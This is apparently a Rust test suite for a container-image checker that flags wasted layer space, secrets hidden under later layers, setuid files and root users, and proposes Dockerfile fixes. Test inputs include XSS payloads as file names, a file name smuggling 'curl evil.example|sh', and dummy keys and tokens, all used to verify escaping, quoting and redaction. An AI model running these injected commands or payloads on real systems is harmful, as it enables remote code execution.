//! Practice 2, from outside: what layers bring, and what they leave behind.

use crate::fixture::{Files, Image, Layer, Packing, Sandbox, codes, dpkg, good, list, parsed};
use crate::formats::described;
use base64::Engine as _;
use insta::assert_snapshot;
use serde_json::json;

/// The exit code and the rules of the practice that an image breaks.
fn check(image: &Image, code: i32, expected: &[&str]) {
    let sandbox = Sandbox::new();
    sandbox.folder("app", &image.layout(Packing::Gzip));
    let report = parsed(&sandbox.run("check oci:app --json").data(code));
    assert_eq!(codes(&report, true), expected);
}

#[test]
fn cleaned_in_the_same_instruction_is_good() {
    check(&good(), 0, &[]);
}

#[test]
fn a_cache_that_stays() {
    let cache =
        Layer::new("RUN /bin/sh -c apk add curl # buildkit").file("var/cache/apk/APKINDEX.tar.gz", vec![1; 1_500_000]);
    check(&good().layer(cache), 0, &["PL201"]);
}

#[test]
fn megabytes_under_a_later_layer() {
    let big = Layer::new("COPY data /data # buildkit").file("data/model.bin", vec![7; 11_000_000]);
    let gone = Layer::new("RUN /bin/sh -c rm /data/model.bin # buildkit").without("data/model.bin");
    check(&good().layer(big).layer(gone), 0, &["PL203"]);
}

#[test]
fn a_program_with_setuid() {
    let tool =
        Layer::new("COPY helper /usr/local/bin # buildkit").with_mode("usr/local/bin/helper", "#!/bin/sh\n", 0o4755);
    check(&good().layer(tool), 0, &["PL204"]);
}

#[test]
fn a_secret_under_a_later_layer_still_fails() {
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n";
    let copied = Layer::new("COPY id_rsa /root/.ssh/id_rsa # buildkit").file("root/.ssh/id_rsa", key);
    let removed = Layer::new("RUN /bin/sh -c rm /root/.ssh/id_rsa # buildkit").without("root/.ssh/id_rsa");
    check(&good().layer(copied.clone()).layer(removed.clone()), 1, &["PL205"]);
    let sandbox = Sandbox::new();
    sandbox.folder("app", &good().layer(copied).layer(removed).layout(Packing::Plain));
    assert_snapshot!(sandbox.run("check oci:app"), @"
    exit: 1
    ----- stdout -----
    oci:app
      manifest sha256:a9dfd2fe0dd93139cbb7f95148c79e3979b1753f8c463a6037c7a7e80958bea8
      linux/amd64, Kali GNU/Linux Rolling, 3 packages in 5 layers, 608 B of files

    critical PL205 secret-file
      /root/.ssh/id_rsa was removed in a later layer and is still in the image: SSH private key
      proof:  layer 4 of 5 (`COPY id_rsa /root/.ssh/id_rsa`) holds the file; layer 5 of 5 (`RUN rm /root/.ssh/id_rsa`) hides it and does not remove it
      remedy: rotate it, then build again with `RUN --mount=type=secret` or hand it over when the container runs; deleting it in another layer is not enough

    not checked:
      tagging    the target is not asked for by a reference, so there is no tag to judge
      scanning   there is no index of advisories (`plimsoll db update` makes one)
      rebuilds   no rule for it is built in

    fail: 1 critical; high and worse fail
    ----- stderr -----
    ");
}

#[test]
fn root_and_secrets_in_the_config() {
    check(&good().user(""), 0, &["PL206"]);
    check(&good().user("0:0"), 0, &["PL206"]);
    check(&good().env("API_TOKEN=hunter2"), 1, &["PL207"]);
    let run = Layer::new("RUN |1 NPM_TOKEN=hunter2 /bin/sh -c npm ci # buildkit").file("app/node_modules/.keep", "");
    check(&good().layer(run), 1, &["PL208"]);
}

#[test]
fn no_secret_is_repeated() {
    let sandbox = Sandbox::new();
    let run = Layer::new("RUN |1 NPM_TOKEN=s3cr3t-in-history /bin/sh -c npm ci # buildkit").file("app/x", "");
    sandbox.folder("app", &good().env("API_TOKEN=s3cr3t-in-env").layer(run).layout(Packing::Plain));
    for format in ["terminal", "json", "sarif"] {
        let run = sandbox.run(&format!("check oci:app -v -o {format}"));
        assert_eq!(run.code, 1);
        assert!(!run.stdout.contains("s3cr3t-in-env"), "{format}: {run}");
        assert!(!run.stdout.contains("s3cr3t-in-history"), "{format}: {run}");
    }
    for format in ["terminal", "json"] {
        let run = sandbox.run(&format!("inspect oci:app -v -o {format}"));
        assert!(!run.stdout.contains("s3cr3t-in-history"), "{format}: {run}");
    }
    for format in ["spdx-json", "cyclonedx-json"] {
        let run = sandbox.run(&format!("sbom oci:app -o {format}"));
        assert!(run.stdout.contains("npm ci") && !run.stdout.contains("s3cr3t-in"), "{format}: {run}");
    }
}

/// The Dockerfile of [`wasteful`].
const DOCKERFILE: &str = "\
FROM debian:sid
RUN apt-get update && apt-get install -y curl
COPY tool /usr/local/bin/tool
RUN chmod +x /usr/local/bin/tool
COPY data.tar /tmp/data.tar
RUN tar -C /srv -xf /tmp/data.tar && rm /tmp/data.tar
CMD [\"tool\"]
";

/// An image with one of each: a cache, a copy for its mode's sake, a file that was deleted again.
fn wasteful() -> Image {
    let mut image = good();
    image.layers.truncate(1);
    image
        .layer(
            Layer::new("RUN /bin/sh -c apt-get update && apt-get install -y curl # buildkit")
                .file("usr/bin/curl", vec![1; 300_000])
                .file("var/lib/apt/lists/deb.example_Packages", vec![2; 2_000_000])
                .file("var/lib/dpkg/status", dpkg(&[("libc6", "2.40-3"), ("curl", "8.11.0-1")])),
        )
        .layer(Layer::new("COPY tool /usr/local/bin/tool # buildkit").file("usr/local/bin/tool", vec![3; 1_500_000]))
        .layer(Layer::new("RUN /bin/sh -c chmod +x /usr/local/bin/tool # buildkit").with_mode(
            "usr/local/bin/tool",
            vec![3; 1_500_000],
            0o755,
        ))
        .layer(Layer::new("COPY data.tar /tmp/data.tar # buildkit").file("tmp/data.tar", vec![4; 1_000_000]))
        .layer(
            Layer::new("RUN /bin/sh -c tar -C /srv -xf /tmp/data.tar && rm /tmp/data.tar # buildkit")
                .file("srv/data", vec![5; 900_000])
                .without("tmp/data.tar"),
        )
}

#[test]
fn waste_by_the_line_that_made_it() {
    let sandbox = Sandbox::new();
    sandbox.folder("app", &wasteful().layout(Packing::Plain));
    sandbox.write("Dockerfile", DOCKERFILE);
    assert_snapshot!(sandbox.run("layers oci:app --dockerfile Dockerfile"), @"
    exit: 0
    ----- stdout -----
    oci:app
      manifest sha256:9895182b36170b84aac5fba4787e3fdb30b11f63a2095990903bb566afc97ba9
      6 layers, 1 of them the base's (by the Dockerfile), 4.7 MB of files seen

     layer    stored     plain    added  changed  removed      dead     spare  instruction
         1    5.1 kB    5.1 kB        4        -        -     140 B         -  base: ADD file:b0 in /
         2    2.3 MB    2.3 MB        2        1        -         -    2.0 MB  Dockerfile:2 RUN apt-get update && apt-get install -y curl
         3    1.5 MB    1.5 MB        1        -        -    1.5 MB         -  Dockerfile:3 COPY tool /usr/local/bin/tool
         4    1.5 MB    1.5 MB        -        1        -         -         -  Dockerfile:4 RUN chmod +x /usr/local/bin/tool
         5    1.0 MB    1.0 MB        1        -        -    1.0 MB         -  Dockerfile:5 COPY data.tar /tmp/data.tar
         6    902 kB    902 kB        1        -        1         -         -  Dockerfile:6 RUN tar -C /srv -xf /tmp/data.tar && rm /tmp/data.tar

    wasted: 4.5 MB of 7.2 MB of files above the base (62.5 %)

      Dockerfile:2 RUN apt-get update && apt-get install -y curl
         2.0 MB  package-cache of apt: /var/lib/apt/lists/deb.example_Packages
                 -> end the RUN with `&& rm -rf /var/lib/apt/lists/*` (--fix writes it)

      Dockerfile:3 COPY tool /usr/local/bin/tool
         1.5 MB  metadata-only, hidden by line 4: /usr/local/bin/tool
                 -> write `COPY --chmod=755` and take out the RUN of line 4 (--fix writes it)

      Dockerfile:5 COPY data.tar /tmp/data.tar
         1.0 MB  deleted, hidden by line 6: /tmp/data.tar
                 -> mount what only the build needs, `RUN --mount=type=bind,source=…,target=…`, or copy only the result from a build stage

          140 B  in vain in the base's layers
      dive would say: efficiency 0.6528, 4.0 MB wasted, 55.56 % of the user's
    ----- stderr -----
    ");
    assert_snapshot!(sandbox.run("layers oci:app --dockerfile Dockerfile --diff"), @r#"
    exit: 0
    ----- stdout -----
    --- a/Dockerfile
    +++ b/Dockerfile
    @@ -1,7 +1,6 @@
     FROM debian:sid
    -RUN apt-get update && apt-get install -y curl
    -COPY tool /usr/local/bin/tool
    -RUN chmod +x /usr/local/bin/tool
    +RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
    +COPY --chmod=755 tool /usr/local/bin/tool
     COPY data.tar /tmp/data.tar
     RUN tar -C /srv -xf /tmp/data.tar && rm /tmp/data.tar
     CMD ["tool"]
    ----- stderr -----
    "#);
    let run = sandbox.run("layers oci:app --dockerfile Dockerfile --fix -o json=layers.json");
    assert_eq!(run.code, 0, "{run}");
    assert_snapshot!(sandbox.read("Dockerfile"), @r#"
    FROM debian:sid
    RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
    COPY --chmod=755 tool /usr/local/bin/tool
    COPY data.tar /tmp/data.tar
    RUN tar -C /srv -xf /tmp/data.tar && rm /tmp/data.tar
    CMD ["tool"]
    "#);
    described("layers-v1", &parsed(&sandbox.read("layers.json")));
    // What was mended is not mended twice: the file is no longer the image's.
    let again = sandbox.run("layers oci:app --dockerfile Dockerfile --fix");
    assert!(again.stdout.contains("does not fit"), "{again}");
    assert!(again.stderr.contains("nothing in it can surely be mended"), "{again}");
}

#[test]
fn waste_without_a_dockerfile() {
    let sandbox = Sandbox::new();
    sandbox.folder("app", &wasteful().layout(Packing::Gzip));
    let document = parsed(&sandbox.run("layers oci:app --json").data(0));
    described("layers-v1", &document);
    let causes: Vec<(u64, &str, u64)> = list(&document, "waste")
        .iter()
        .map(|w| (w["layer"].as_u64().unwrap(), w["cause"].as_str().unwrap(), w["bytes"].as_u64().unwrap()))
        .collect();
    let status = dpkg(&[("libc6", "2.40-3")]).len() as u64;
    let expected = [
        (1, "package-database", status),
        (2, "package-cache", 2_000_000),
        (3, "metadata-only", 1_500_000),
        (5, "deleted", 1_000_000),
    ];
    assert_eq!(causes, expected);
    assert_eq!(document["totals"]["wastedBytes"], 4_500_000);
    assert_eq!((&document["lines"]["knownBy"], &document["base"]["layers"]), (&"history".into(), &0.into()));
    for (number, layer) in list(&document, "layers").iter().enumerate() {
        let dead = causes.iter().filter(|(at, cause, _)| *at == number as u64 + 1 && *cause != "package-cache");
        assert_eq!(layer["deadBytes"], dead.map(|(.., bytes)| bytes).sum::<u64>(), "{number}");
    }
}

#[test]
fn the_base_and_the_budget() {
    let sandbox = Sandbox::new();
    let mut base = good();
    base.layers.truncate(1);
    sandbox.folder("base", &base.layout(Packing::Zstd));
    sandbox.folder("app", &wasteful().layout(Packing::Gzip));
    let document = parsed(&sandbox.run("layers oci:app --base oci:base --max-waste 4.5MB --json").data(0));
    assert_eq!(document["base"]["layers"], 1);
    assert_eq!(document["totals"]["structuralBytes"], 0);
    assert_eq!(document["verdict"], "pass");
    let digest = format!("sha256:{}", "0".repeat(64));
    sandbox.folder(
        "labelled",
        &wasteful().label("base.name", "debian:sid").label("base.digest", &digest).layout(Packing::Gzip),
    );
    let said = sandbox.run("layers oci:labelled").data(0);
    assert!(
        said.contains(&format!("base not known (the image names its own: `--base debian:sid@{digest}` sets it apart)")),
        "{said}"
    );
    let run = sandbox.run("layers oci:app --base 1 --max-waste 10%");
    assert_eq!(run.code, 1, "{run}");
    assert!(run.stdout.ends_with("fail: more is wasted than 10 %\n"), "{run}");
    sandbox.write("plimsoll.toml", "[layers]\nmax-waste = \"4MB\"\n");
    sandbox.run("layers oci:app").data(1);
    sandbox.run("layers oci:app --max-waste 90%").data(0);
    sandbox.write("plimsoll.toml", "[layers]\nmax-waste = \"much\"\n");
    assert_snapshot!(sandbox.run("layers oci:app"), @"
    exit: 2
    ----- stdout -----
    ----- stderr -----
    error: [DIR]/work/plimsoll.toml:2:13: `much` is no amount of waste
    hint: write bytes such as `20MB` or `5MiB`, or a part of the files such as `5%`
    ");
    std::fs::remove_file(sandbox.path("plimsoll.toml")).unwrap();
    assert_snapshot!(sandbox.run("layers oci:app --base 9"), @"
    exit: 2
    ----- stdout -----
    ----- stderr -----
    error: `9` is not the base: `oci:app` has 6 layers
    hint: name the image that its FROM named, or the number of its layers
    ");
    sandbox.folder("other", &good().env("A=b").layout(Packing::Plain));
    let run = sandbox.run("layers oci:base --base oci:other");
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("`oci:other` is not the base: its layer 2 of 3"), "{run}");
}

#[test]
fn a_part_that_cannot_be_read_is_no_pass() {
    let sandbox = Sandbox::new();
    let mut locked = wasteful().stored(Packing::Zstd);
    locked.layers[4]["mediaType"] = "application/vnd.oci.image.layer.v1.tar+zstd+encrypted".into();
    sandbox.folder("locked", &locked.layout());
    let document = parsed(&sandbox.run("layers oci:locked --json").data(3));
    assert_eq!(document["verdict"], "inconclusive");
    assert_eq!(list(&document, "unknowns").len(), 1);
}

#[test]
fn thresholds_of_dive() {
    let sandbox = Sandbox::new();
    sandbox.folder("app", &wasteful().layout(Packing::Plain));
    sandbox.write(
        ".dive-ci",
        "rules:\n  lowestEfficiency: 0.5\n  highestWastedBytes: 5MB\n  highestUserWastedPercent: 0.10\n",
    );
    let run = sandbox.run("layers oci:app --dive-ci .dive-ci");
    assert_eq!(run.code, 1, "{run}");
    let said = run.stdout.split("dive would say").nth(1).unwrap();
    assert_snapshot!(said, @"
    : efficiency 0.6528, 4.0 MB wasted, 55.56 % of the user's
      give the Dockerfile (`--dockerfile FILE`) to see its lines and what can surely be mended

    pass: lowestEfficiency 0.6528, at least 0.5

    pass: highestWastedBytes 4.0 MB, at most 5.0 MB

    fail: highestUserWastedPercent 0.5556, at most 0.1
    ");
    described("layers-v1", &parsed(&sandbox.run("layers oci:app --dive-ci .dive-ci --json").data(1)));
    sandbox.write(".dive-ci", "rules:\n  highestUserWastedPercent: disabled\n  lowestEfficiency: 2\n");
    assert_snapshot!(sandbox.run("layers oci:app --dive-ci .dive-ci"), @"
    exit: 2
    ----- stdout -----
    ----- stderr -----
    error: .dive-ci:3: `2` is no number from 0 to 1
    ");
}

/// A layout of `image` whose index has an attestation of it: BuildKit's provenance with these lines for the layers.
fn attested(image: &Image, dockerfile: &str, lines: &[u32], spoil: bool) -> Files {
    let mut stored = image.stored(Packing::Gzip);
    let mut child = stored.manifest();
    let data = base64::engine::general_purpose::STANDARD.encode(dockerfile);
    let (mut locations, mut layers) = (json!({}), json!({}));
    for (step, (line, layer)) in lines.iter().zip(&stored.layers).enumerate() {
        let range = json!({"start": {"line": line}, "end": {"line": line}});
        locations[format!("step{step}")] = json!({"locations": [{"ranges": [range]}]});
        layers[format!("step{step}:0")] = json!([&stored.layers[..=step]]);
        assert!(layer["digest"].is_string());
    }
    let source = json!({"locations": locations, "infos": [{"filename": "build/Dockerfile", "data": data}]});
    let metadata = json!({"source": source, "layers": layers});
    let predicate = json!({"runDetails": {"metadata": {"buildkit_metadata": metadata}}});
    let statement = json!({"predicateType": "https://slsa.dev/provenance/v1", "predicate": predicate}).to_string();
    let mut part = stored.blob("application/vnd.in-toto+json", statement.into_bytes());
    part["annotations"] = json!({"in-toto.io/predicate-type": "https://slsa.dev/provenance/v1"});
    let media_type = "application/vnd.oci.image.manifest.v1+json";
    let config = stored.config();
    let manifest = json!({"schemaVersion": 2, "mediaType": media_type, "config": config, "layers": [part]});
    let mut attestation = stored.blob(media_type, manifest.to_string().into_bytes());
    attestation["annotations"] = json!({
        "vnd.docker.reference.type": "attestation-manifest",
        "vnd.docker.reference.digest": child["digest"],
    });
    attestation["platform"] = json!({"os": "unknown", "architecture": "unknown"});
    child["platform"] = json!({"os": "linux", "architecture": "amd64"});
    let media_type = "application/vnd.oci.image.index.v1+json";
    let index = json!({"schemaVersion": 2, "mediaType": media_type, "manifests": [child, attestation]});
    let top = stored.blob(media_type, index.to_string().into_bytes());
    let mut files = stored.layout_of(&[top]);
    if spoil {
        let name = part["digest"].as_str().unwrap().replace("sha256:", "blobs/sha256/");
        files.get_mut(&name).unwrap().push(b' ');
    }
    files
}

#[test]
fn lines_by_the_builders_own_map() {
    let sandbox = Sandbox::new();
    // What no history tells: the map alone has the lines.
    let mut image = wasteful();
    image.layers.iter_mut().for_each(|layer| layer.created_by = "made".to_owned());
    sandbox.folder("app", &attested(&image, DOCKERFILE, &[1, 2, 3, 4, 5, 6], false));
    let document = parsed(&sandbox.run("layers oci:app --platform linux/amd64 --json").data(0));
    described("layers-v1", &document);
    assert_eq!(document["lines"]["knownBy"], "provenance");
    assert_eq!(document["base"], json!({"layers": 1, "knownBy": "its provenance"}));
    let lines: Vec<u64> =
        list(&document, "layers").iter().filter_map(|layer| layer["where"]["line"].as_u64()).collect();
    assert_eq!(lines, [2, 3, 4, 5, 6]);
    assert_eq!(document["layers"][1]["where"]["path"], "build/Dockerfile");
    // The same file, given: it can be mended. Another one is not what was built.
    sandbox.write("Dockerfile", DOCKERFILE);
    let run = sandbox.run("layers oci:app --platform linux/amd64 --dockerfile Dockerfile --diff");
    assert!(run.stdout.contains("+COPY --chmod=755 tool"), "{run}");
    sandbox.write("Dockerfile", DOCKERFILE.replace("curl", "wget"));
    let document = parsed(&sandbox.run("layers oci:app --platform linux/amd64 --dockerfile Dockerfile --json").data(0));
    assert!(document["lines"]["misfit"].is_string(), "{document}");
    sandbox.folder("spoilt", &attested(&image, DOCKERFILE, &[1, 2, 3, 4, 5, 6], true));
    let run = sandbox.run("layers oci:spoilt --platform linux/amd64");
    assert!(run.stdout.contains("the image's provenance is not used: the provenance should be sha256:"), "{run}");
}

#[test]
fn a_page_that_needs_nothing_else() {
    let sandbox = Sandbox::new();
    let hostile = Layer::new("RUN /bin/sh -c echo '<script>alert(1)</script>' # buildkit")
        .file("srv/<img src=x onerror=alert(1)>", vec![6; 2_000_000])
        .file("srv/\"quoted\"&'", vec![7; 100_000]);
    let gone = Layer::new("RUN /bin/sh -c rm -rf '/srv/<img src=x onerror=alert(1)>' # buildkit")
        .without("srv/<img src=x onerror=alert(1)>");
    sandbox.folder("app", &wasteful().layer(hostile).layer(gone).layout(Packing::Gzip));
    sandbox.run("layers oci:app -o html=page.html -o terminal").data(0);
    let page = sandbox.read("page.html");
    // Every tag is one that the page has of itself, and none fetches or runs anything.
    let tags: std::collections::BTreeSet<&str> = page
        .split('<')
        .skip(1)
        .map(|rest| {
            rest.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric() && c != '!').next().unwrap()
        })
        .collect();
    let known = "!doctype body br code g h1 h2 head html meta p rect span strong style svg table tbody td text th thead \
                 title tr";
    assert_eq!(tags.into_iter().collect::<Vec<_>>().join(" "), known);
    for outside in ["http:", "https:", "url(", "src=\"", "href", "onerror=\""] {
        assert!(!page.contains(outside), "{outside}");
    }
    assert!(page.contains("/srv/&lt;img src=x onerror=alert(1)&gt;: 2.0 MB (2.0 MB dead, 0 B spare)"));
    assert!(page.contains("<td class=\"n\">2.0 MB</td><td>deleted</td><td class=\"n\">7</td><td class=\"n\">8</td>"));
    for tag in ["g", "svg", "table", "tr", "td", "code", "p", "strong", "text", "title"] {
        let (open, close) = (format!("<{tag}"), format!("</{tag}>"));
        let opened =
            page.match_indices(&open).filter(|(at, _)| !page[at + open.len()..].starts_with(char::is_alphanumeric));
        assert_eq!(opened.count(), page.matches(&close).count(), "{tag}");
    }
}

#[test]
fn two_images_side_by_side() {
    let sandbox = Sandbox::new();
    sandbox.folder("old", &wasteful().layout(Packing::Plain));
    let mut better = wasteful();
    better.layers[1].entries.retain(|entry| !entry.path.starts_with("var/lib/apt"));
    better.layers[2].entries[0].mode = 0o755;
    better.layers.remove(3);
    better.layers.push(Layer::new("COPY new /srv/new # buildkit").file("srv/new", "new").file("srv/data", "less"));
    sandbox.folder("new", &better.layout(Packing::Plain));
    assert_snapshot!(sandbox.run("layers oci:old oci:new"), @"
    exit: 0
    ----- stdout -----
    oci:old -> oci:new
      layers                      6          6  1 shared
      stored                 7.2 MB     3.7 MB  -3.5 MB
      files in layers        7.2 MB     3.7 MB  -3.5 MB
      files seen             4.7 MB     1.8 MB  -2.9 MB
      wasted                 4.5 MB     1.9 MB  -2.6 MB
        package-cache        2.0 MB        0 B  -2.0 MB
        metadata-only        1.5 MB        0 B  -1.5 MB
        overwritten             0 B     900 kB  +900 kB

    files: 1 added (3 B), 1 removed (2.0 MB), 1 changed (4 B)
      -               2.0 MB  /var/lib/apt/lists/deb.example_Packages
      ~        900 kB -> 4 B  /srv/data
      +                  3 B  /srv/new
    ----- stderr -----
    ");
    let document = parsed(&sandbox.run("layers oci:old oci:new --json").data(0));
    described("layers-compare-v1", &document);
    assert_eq!(document["sharedLayers"], 1);
    sandbox.run("layers oci:old oci:new --max-waste 1kB").data(1);
    sandbox.run("layers oci:new oci:old --max-waste 2MB").data(1);
    assert!(sandbox.run("layers oci:old oci:old").data(0).contains("files: the same files are seen\n"));
    assert_snapshot!(sandbox.run("layers oci:old oci:new -o html"), @"
    exit: 2
    ----- stdout -----
    ----- stderr -----
    error: `-o html` shows one image
    ");
}

#[test]
fn secrets_come_before_bytes_and_are_never_shown() {
    let sandbox = Sandbox::new();
    let token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n";
    let image =
        good().layer(Layer::new("COPY id_rsa /root/.ssh/id_rsa # buildkit").file("root/.ssh/id_rsa", key)).layer(
            Layer::new(&format!("RUN |1 REF={token} /bin/sh -c rm /root/.ssh/id_rsa # buildkit"))
                .without("root/.ssh/id_rsa"),
        );
    sandbox.folder("app", &image.env("API_TOKEN=s3cr3t-in-env").layout(Packing::Plain));
    for format in ["terminal", "json", "html"] {
        let said = sandbox.run(&format!("layers oci:app -v -o {format}")).data(0);
        for value in [token, "MIIEpAIBAAKCAQEA", "s3cr3t-in-env"] {
            assert!(!said.contains(value), "{format}: {said}");
        }
    }
    let document = parsed(&sandbox.run("layers oci:app --json").data(0));
    described("layers-v1", &document);
    let codes: Vec<&str> = list(&document, "secrets").iter().map(|one| one["code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["PL205", "PL211", "PL207"]);
    let causes: Vec<&str> = list(&document, "waste").iter().map(|one| one["cause"].as_str().unwrap()).collect();
    assert!(causes.contains(&"secret"), "{document}");
}

#[test]
fn a_dockerfile_that_does_not_fit_mends_nothing_and_that_is_said() {
    let sandbox = Sandbox::new();
    sandbox.folder("app", &good().layout(Packing::Gzip));
    let text = "FROM scratch\nCOPY one /one\nRUN apt-get update\n";
    sandbox.write("Dockerfile", text);
    for flag in ["--diff", "--fix"] {
        let run = sandbox.run(&format!("layers oci:app -f Dockerfile {flag}"));
        assert!(run.code == 3 && run.stderr.contains("does not fit, so nothing in it is mended"), "{run}");
        assert_eq!(sandbox.read("Dockerfile"), text);
    }
}

#[test]
fn a_command_in_a_remedy_takes_a_path_for_nothing_but_a_path() {
    let sandbox = Sandbox::new();
    let tool = Layer::new("COPY x /opt # buildkit").with_mode("opt/x;curl evil.example|sh #", "#!/bin/sh\n", 0o4755);
    sandbox.folder("app", &good().layer(tool).layout(Packing::Gzip));
    let text = sandbox.run("check oci:app").stdout;
    assert!(text.contains("`chmod a-s '/opt/x;curl evil.example|sh #'`"), "{text}");
}
